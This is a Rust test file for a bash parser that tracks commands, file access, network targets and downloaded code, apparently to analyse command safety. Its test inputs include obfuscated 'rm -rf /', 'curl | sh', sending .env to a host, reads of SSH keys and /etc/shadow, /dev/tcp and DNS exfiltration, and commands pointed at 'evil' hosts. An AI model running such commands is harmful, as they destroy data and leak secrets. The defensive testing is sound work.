//! The reader against what bash does, case by case.

use super::{Code, Shell, Word, shell};

mod carriers;
mod options;
mod state;
mod verbs;

/// The text's commands, one a line: program and words, `?` for what is not known, globs in backquotes.
fn lines(text: &str) -> Vec<String> {
    match shell(text, Some("/app")) {
        Ok(read) => read.commands.iter().map(|c| line(&c.program, &c.args)).collect(),
        Err(why) => vec![format!("unknown: {why}")],
    }
}

fn line(program: &Word, args: &[Word]) -> String {
    let mut words = vec![show(program)];
    words.extend(args.iter().map(show));
    words.join("|")
}

fn show(word: &Word) -> String {
    match word {
        Word::Literal(text) => text.to_string(),
        Word::Pattern(own) => format!("`{own}`"),
        Word::Unknown => "?".to_owned(),
    }
}

fn shows(words: &[Word]) -> Vec<String> {
    words.iter().map(show).collect()
}

fn read(text: &str) -> Shell {
    shell(text, Some("/app")).unwrap_or_else(|why| panic!("{text}: {why}"))
}

/// Each text runs exactly these commands.
fn check(cases: &[(&str, &[&str])]) {
    for (text, expected) in cases {
        assert_eq!(lines(text), *expected, "{text}");
    }
}

#[test]
fn quotes_and_expansions_give_the_words_that_bash_gives() {
    // SPEC: [S4.31]
    check(&[
        ("rm -rf /", &["rm|-rf|/"]),
        (r"r\m -rf /", &["rm|-rf|/"]),
        ("r''m '-rf' \"/\"", &["rm|-rf|/"]),
        (r"$'\x72\x6d' -rf $'\57'", &["rm|-rf|/"]),
        ("rm$IFS-rf${IFS}/", &["rm|-rf|/"]),
        ("{rm,-rf,/}", &["rm|-rf|/"]),
        ("echo {a,b}{1..3} x{,y} {a {b}", &["echo|a1|a2|a3|b1|b2|b3|x|xy|{a|{b}"]),
        ("x=rm; $x -rf /", &["rm|-rf|/"]),
        ("x='rm -rf /'; $x; \"$x\"", &["rm|-rf|/", "/app/rm -rf "]),
        ("x=a; x+=b; echo ${x}c \"${x:-d}\" ${y-} ${z:+w}", &["echo|abc|ab|?|?"]),
        ("x=rmx; ${x%x} /; ${x%%m*} ${#x}", &["rm|/", "r|3"]),
        ("a=(rm -rf); \"${a[@]}\" /; ${a[0]}", &["rm|-rf|/", "rm"]),
        ("git re\\\nset --hard", &["git|reset|--hard"]),
        ("echo $'a\\'b' \"a\\\"b$\" 'a\\b'", &["echo|a'b|a\"b$|a\\b"]),
        ("echo *.txt '*.txt' \"?\"[ab]", &["echo|`*.txt`|*.txt|`\\?[ab]`"]),
        ("echo ~ ~/x '~'", &["echo|~|~/x|~"]),
        ("echo $HOME/x \"$USER\" a$UNSET", &["echo|~/x|?|?"]),
        ("echo $(echo rm) `echo x`", &["echo|rm", "echo|x", "echo|rm|x"]),
        ("$(printf rm) /", &["printf|rm", "rm|/"]),
        ("echo a#b # rm", &["echo|a#b"]),
        ("declare x={1,2}; a $x", &["declare|?", "a|?"]),
        ("f() { a \"$@\" b; }; f", &["a|?|b"]),
        ("set -- rm x; $1 $2; shift; $1", &["set|--|rm|x", "rm|x", "shift", "x"]),
    ]);
}

#[test]
fn every_form_of_the_grammar_is_walked() {
    // SPEC: [S4.30]
    check(&[
        ("a && b || c; d & e | f |& g\nh", &["a", "b", "c", "d", "e", "f", "g", "h"]),
        ("{ a; }; (b); ! c; time d", &["a", "b", "c", "d"]),
        ("if a; then b; elif c; then d; else e; fi", &["a", "b", "c", "d", "e"]),
        ("while a; do b; done; until c; do d; done", &["a", "b", "c", "d"]),
        ("for i in /; do rm -rf $i; done", &["rm|-rf|/"]),
        ("for ((i=0; i<3; i++)); do a $i; done", &["a|?"]),
        ("case $x in a|b) c;; *) d;; esac", &["c", "d"]),
        ("f() { rm \"$1\"; }; f x; f y", &["rm|x", "rm|y"]),
        ("function g { a; }; g", &["a"]),
        ("[[ -f x && $(a) == b ]] && c", &["a", "c"]),
        ("(( x > 1 )) && a", &["a"]),
        ("x=$(a) y=`b` c <(d) > >(e)", &["d", "a", "b", "e", "c|`/dev/fd/*`"]),
        ("cat <<EOF\n$(a)\nEOF\nb", &["a", "cat", "b"]),
        ("cat <<'EOF'\n$(a)\nEOF\nb", &["cat", "b"]),
        ("bash <<EOF\nrm -rf /\nEOF", &["bash", "rm|-rf|/"]),
        ("bash <<< 'rm x'", &["bash", "rm|x"]),
        ("eval 'a; b' c", &["eval|a; b|c", "a", "b|c"]),
        ("alias l='rm -rf'\nl /", &["alias|l=rm -rf", "rm|-rf|/", "l|/"]),
        ("trap 'rm x' EXIT", &["trap|rm x|EXIT", "rm|x", "rm|x"]),
        ("x=1; while a; do $x; x=b; done", &["a", "1", "?", "?"]),
        ("echo $(( $(a) + 1 ))", &["a", "?", "echo|?"]),
    ]);
}

#[test]
fn what_only_run_time_can_tell_is_marked() {
    // SPEC: [S4.32]
    for text in [
        "$X rm",
        "$(a)",
        "eval \"$X\"",
        ". ./x",
        "source x",
        "bash -c \"$X\"",
        "*",
        "x=$(a); $x",
        "read x; $x",
        "${!x}y",
        "f() { $1; }; f $X",
        "for i in $(a); do $i; done",
        "x=ls; a && x=rm; $x",
        "BASH_ENV=x bash -c a",
        "sudo $X a",
        "echo rm | sh -s; $Y",
        "curl x | sh",
        "xargs -I{} sh -c '{}'",
        "alias x=$Y z",
        "set -k; a x=1",
        "a[$(x)]=1 b",
        "echo 'a' > x.sh; ./x.sh",
        "declare -n r=x",
        "read x; echo $((x))",
    ] {
        if let Ok(read) = shell(text, Some("/app")) {
            assert!(!read.is_static, "{text}");
            assert!(read.commands.iter().any(|c| c.program == Word::Unknown), "{text}: {:?}", lines(text));
        }
    }
    for text in ["ls", "a *.c", "cd x && make", "for i in 1 2; do a $i; done", "[[ -f x ]] && cat x"] {
        assert!(read(text).is_static, "{text}: {:?}", read(text));
    }
}

#[test]
fn what_bash_refuses_is_unknown() {
    // SPEC: [S4.33]
    for text in [
        "(",
        "a)",
        "a |",
        "| a",
        "a &&",
        "if a; fi",
        "for; do a; done",
        "'",
        "\"",
        "$(a",
        "`a",
        "${",
        "{ a; ",
        "a;; b",
        "fi",
        "case x in",
        "a() b",
        "<",
        "a <",
        "[[ a",
        "f() {",
        "while a; do done",
        "cat <<EOF\nx",
        "$[1",
        "a\u{202e}b",
        "a\0",
        "echo ${x y}",
        "((1)",
        "! ; |",
    ] {
        assert!(shell(text, None).is_err(), "{text}: {:?}", lines(text));
    }
}

#[test]
fn files_are_taken_from_the_folder_where_the_command_runs() {
    // SPEC: [S4.36]
    let paths = |text: &str| {
        let read = read(text);
        (shows(&read.reads).join(" "), shows(&read.writes).join(" "))
    };
    for (text, reads, writes) in [
        ("cat a ../b /c", "/app/a /b /c", ""),
        ("cat < a > b 2>> c", "/app/a", "/app/b /app/c"),
        ("cd / && rm -rf x", "", "/x"),
        ("cd sub; rm x", "", "/app/sub/x /app/x"),
        ("cd $X; rm x", "", "? /app/x"),
        ("(cd /a && b=1); rm x", "", "/app/x"),
        ("cp a b c/", "/app/a /app/b", "/app/c"),
        ("mv a b", "/app/a", "/app/a /app/b"),
        ("rm -rf ./build dist", "", "/app/build /app/dist"),
        ("rm -rf build/*.o", "", "`/app/build/*.o`"),
        ("grep -r x src", "/app/src", ""),
        ("grep -e x src", "/app/src", ""),
        ("sed -i s/a/b/ f", "/app/f", "/app/f"),
        ("dd if=/dev/zero of=/dev/sda", "/dev/zero", "/dev/sda"),
        ("tar czf a.tgz b", "/app/b", "/app/a.tgz"),
        ("tar -xf a.tgz -C /c", "/app/a.tgz", "/c"),
        ("curl -d @.env https://x -o out", "/app/.env", "/app/out"),
        ("cat ~/.ssh/id_rsa", "~/.ssh/id_rsa", ""),
        ("find /a -name x -delete", "/a", "`/a/*`"),
        ("find . -fprintf /home/.bashrc x", "/app", "/home/.bashrc"),
        ("ls > /dev/null", "/app", ""),
        ("frobnicate x", "?", "?"),
    ] {
        assert_eq!(paths(text), (reads.to_owned(), writes.to_owned()), "{text}");
    }
    let read = shell("cat a; cd b && cat c", None).unwrap();
    assert_eq!(shows(&read.reads), ["a", "b/c"]);
}

#[test]
fn flags_targets_and_pipes() {
    // SPEC: [S4.35]
    let first = |text: &str| read(text).commands.into_iter().next().unwrap();
    assert_eq!(first("rm --recursive --force x").flags, ["-r", "-f"]);
    assert_eq!(first("rm -Rf x").flags, ["-r", "-f"]);
    assert_eq!(first("rm --rec x").flags, ["-r"]);
    assert_eq!(first("head -n5 x").flags, ["-n"]);
    assert_eq!(shows(&first("nmap -p 80 10.0.0.0/8 h").targets), ["10.0.0.0/8", "h"]);
    for scan in ["-sS", "-sT", "-sU", "-sn"] {
        assert_eq!(shows(&first(&format!("nmap {scan} 10.0.0.0/8")).targets), ["10.0.0.0/8"], "{scan}");
    }
    assert_eq!(first("nmap -iL t").targets, [Word::Unknown]);
    assert_eq!(shows(&first("nmap -oN out -p 80 h").targets), ["h"]);
    assert_eq!(shows(&first("nmap -oN out -iL t").writes), ["/app/out"]);
    assert_eq!(shows(&first("ping -c1 h").targets), ["h"]);
    assert_eq!(shows(&first("curl -s -X POST https://h/x").targets), ["https://h/x"]);
    assert_eq!(shows(&first("cat x > /dev/tcp/h/80").targets), ["h"]);
    assert_eq!(first("/usr/bin/rm x").program, Word::Literal("rm".into()));
    assert_eq!(first("./rm x").program, Word::Literal("/app/rm".into()));
    assert_eq!(first("A=1 B=$X c").env.len(), 2);
    let read_all = read("a | tee b | c");
    assert_eq!(read_all.commands.last().unwrap().stdin_from, ["tee", "a"]);
    assert!(read_all.pipes_into.contains(&("a".into(), "c".into())));
    assert_eq!(read("ping $(base64 .env).x").commands.last().unwrap().words_from, ["base64"]);
}

#[test]
fn code_for_interpreters_is_reported_with_where_it_comes_from() {
    // SPEC: [S4.38]
    for (text, program, kind) in [
        ("python3 -c 'x'", "python3", Code::Argument),
        ("perl -ne 'x' f", "perl", Code::Argument),
        ("node --eval=x", "node", Code::Argument),
        ("python3 - <<EOF\nx\nEOF", "python3", Code::HereDocument),
        ("a | python3", "python3", Code::Pipe),
        ("wget -qO- x | python3", "python3", Code::Download),
        ("curl x | sudo -u root bash", "bash", Code::Download),
        ("bash <(curl x)", "bash", Code::Download),
        ("source <(curl x)", "source", Code::Download),
        ("sh -c \"$(curl x)\"", "sh", Code::Download),
        ("eval \"$(echo x | base64 -d)\"", "eval", Code::Decoded),
        ("base64 -d x | sh", "sh", Code::Decoded),
        ("echo cm0= | base64 -d | bash", "bash", Code::Decoded),
        (". ./x", ".", Code::File),
    ] {
        let read = read(text);
        assert!(
            read.interprets.iter().any(|i| i.program == program && i.kind == kind),
            "{text}: {:?}",
            read.interprets
        );
    }
    for text in ["python3 x.py", "echo python -c", "perl x.pl", "bash x.sh", "node -v"] {
        assert_eq!(read(text).interprets, [], "{text}");
    }
}

#[test]
fn what_is_outside_the_text_is_not_seen() {
    // SPEC: [S4.39]
    assert_eq!(lines("./x.sh; ls; ssh h rm"), ["/app/x.sh", "ls", "ssh|h|rm", "rm"]);
    assert!(read("echo $((X + 1))").commands.iter().all(|c| c.program != Word::Unknown));
    assert_eq!(shows(&read("ssh h cat x").commands.last().unwrap().reads), ["?"]);
}

#[test]
fn what_is_redirected_is_read_and_written_by_some_command() {
    // SPEC: [S4.36]
    for (text, reads, writes) in [
        ("f() { cat; }; f < .env", &["/app/.env"][..], &[][..]),
        ("(cat) < /etc/shadow", &["/etc/shadow"], &[]),
        ("{ echo a; } > x", &[], &["/app/x"]),
        ("while read l; do echo $l; done < in > out", &["/app/in"], &["/app/out"]),
        ("> x", &[], &["/app/x"]),
        ("A=1 < y", &["/app/y"], &[]),
    ] {
        let read = read(text);
        let of = read.commands.iter().find(|c| c.program == Word::Literal(":".into())).expect(text);
        assert_eq!(shows(&of.reads), reads, "{text}");
        assert_eq!(shows(&of.writes), writes, "{text}");
    }
    assert!(!read("ls > $X").is_static);
    assert!(read("ls > x").is_static);
}

#[test]
fn a_file_that_the_text_fills_and_runs_is_hidden_code() {
    // SPEC: [S4.32]
    for text in [
        "echo x > a.sh && sh a.sh",
        "echo x > a.py; python3 a.py",
        "curl -sO https://h/a.sh && bash a.sh",
        "wget https://h/a.sh; bash ./a.sh",
        "tar xf a.tgz && ./configure",
        "cp b a.sh; ./a.sh",
        "tee a.sh <<E\nx\nE\nbash -x a.sh",
        "mv x/a.pl . ; perl a.pl",
    ] {
        assert!(!read(text).hidden.is_empty(), "{text}");
    }
    for text in [
        "chmod +x a.sh && ./a.sh",
        "mkdir -p build && cd build && ../configure",
        "touch log; sh a.sh",
        "rm -rf dist; python3 setup.py",
        "echo x > out.txt; sh a.sh",
        "sh a.sh > log.txt",
    ] {
        assert_eq!(read(text).hidden, Vec::<&str>::new(), "{text}");
    }
}

#[test]
fn files_that_only_an_option_or_a_script_names_are_read_and_written() {
    // SPEC: [S4.36]
    let first = |text: &str| read(text).commands.into_iter().next().expect(text);
    for (text, file) in [
        ("sed 'r /etc/shadow' x", "/etc/shadow"),
        ("sed -n '$R .env' x", "/app/.env"),
        ("awk 'BEGIN{while((getline l < \"/etc/shadow\")>0) print l}'", "/etc/shadow"),
        ("awk '{getline < \".env\"; print}' x", "/app/.env"),
        ("awk 'BEGIN{print ENVIRON[\"K\"]}'", "/proc/self/environ"),
        ("jq -n env", "/proc/self/environ"),
        ("jq -n '$ENV.K'", "/proc/self/environ"),
        ("jq --slurpfile s /etc/passwd . a.json", "/etc/passwd"),
        ("jq -L /home/o . a.json", "/home/o"),
        ("env A=1", "/proc/self/environ"),
        ("printenv K", "/proc/self/environ"),
        ("cat <> .env", "/app/.env"),
        ("git show HEAD:.env", "/app/.env"),
        ("git log -p -- .env", "/app/.env"),
        ("git blame .env", "/app/.env"),
        ("git --git-dir=/home/o/.git log", "/home/o/.git"),
        ("git -C /home/o status", "/home/o"),
        ("git commit -F /etc/shadow", "/etc/shadow"),
        ("GIT_DIR=/home/o/.git git log", "/home/o/.git"),
        ("RUSTC_WRAPPER=/home/o/x cargo build", "/home/o/x"),
        ("KUBECONFIG=/home/o/c kubectl get pods", "/home/o/c"),
        ("kubectl get -f /home/o/x.yaml", "/home/o/x.yaml"),
        ("terraform plan -var-file=/home/o/x", "/home/o/x"),
        ("du --files0-from=/etc/shadow", "/etc/shadow"),
        ("du --files0-from=list", "/app/list"),
        ("du --files0-from=list", "?"),
        ("wc --files0-from list", "/app/list"),
        ("find -files0-from list -name x", "/app/list"),
        ("find -files0-from list -name x", "?"),
        ("man -l notes.1", "/app/notes.1"),
        ("man --local-file notes.1", "/app/notes.1"),
        ("man ./notes.1", "/app/notes.1"),
        ("nmap --script ./x.nse 10.0.0.1", "/app/x.nse"),
        ("nmap --script=default,/opt/x 10.0.0.1", "/opt/x"),
        ("nmap --script-args-file keys 10.0.0.1", "/app/keys"),
        ("echo /home/o/*", "`/home/o/*`"),
        ("go build -o /tmp/x", "/tmp/x"),
    ] {
        let reads: Vec<String> = read(text).commands.iter().flat_map(|c| shows(&c.reads)).collect();
        assert!(reads.iter().any(|r| r == file), "{text}: {reads:?}");
    }
    let deleted = read("find -files0-from list -delete");
    assert!(deleted.commands.iter().any(|c| c.program.literal() == Some("rm") && c.writes == [Word::Unknown]));
    assert!(read("man ls").reads.is_empty());
    assert!(read("nmap --script default,vuln 10.0.0.1").reads.is_empty());
    assert!(shows(&first("git worktree add /tmp/w").writes).contains(&"/tmp/w".to_owned()));
    assert!(shows(&first("cat <> x").writes).contains(&"/app/x".to_owned()));
    for (text, host) in [
        ("docker -H tcp://evil:2375 ps", "tcp://evil:2375"),
        ("kubectl --server=https://evil get pods", "https://evil"),
        ("https_proxy=http://evil:1 curl https://h", "http://evil:1"),
        ("npm install --registry=https://evil", "https://evil"),
        ("tar -cf evil:/x src", "evil"),
    ] {
        assert!(shows(&first(text).targets).contains(&host.to_owned()), "{text}");
    }
    // What only looks like a file is none.
    for text in [
        "jq --arg s .env '.name == $s' a.json",
        "jq '.env, \"env\", .a.environment' a.json",
        "sed 's/r/x/' a",
        "grep --include=/x y a",
        "git log --grep=/etc/passwd -S /etc/shadow",
        "git commit -m /etc/passwd",
        "printenv HOME",
        "env -i A=1",
    ] {
        let reads: Vec<String> = read(text).commands.iter().flat_map(|c| shows(&c.reads)).collect();
        let is_wrong = |r: &String| r.contains("env") || r.starts_with("/etc") || r == "/x";
        assert!(!reads.iter().any(is_wrong), "{text}: {reads:?}");
    }
}
